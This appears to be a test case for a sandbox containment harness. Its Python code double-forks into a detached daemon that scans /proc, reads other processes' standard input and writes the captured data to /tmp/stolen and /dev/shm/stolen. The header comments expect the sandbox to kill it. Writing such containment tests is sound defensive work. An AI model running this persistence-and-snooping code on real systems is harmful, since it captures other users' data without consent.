# Tries: stays and reads the next program's input and memory
# Must: dead by then
# Status: ok
# Stdout: contained
import os
me = os.getpid()
if os.fork() == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    while True:
        for name in os.listdir("/proc"):
            if name.isdigit() and int(name) not in (1, me, os.getpid()):
                try:
                    data = open(f"/proc/{name}/fd/0", "rb").read()
                    open("/tmp/stolen", "wb").write(data)
                    open("/dev/shm/stolen", "wb").write(data)
                except OSError:
                    pass
print("contained")
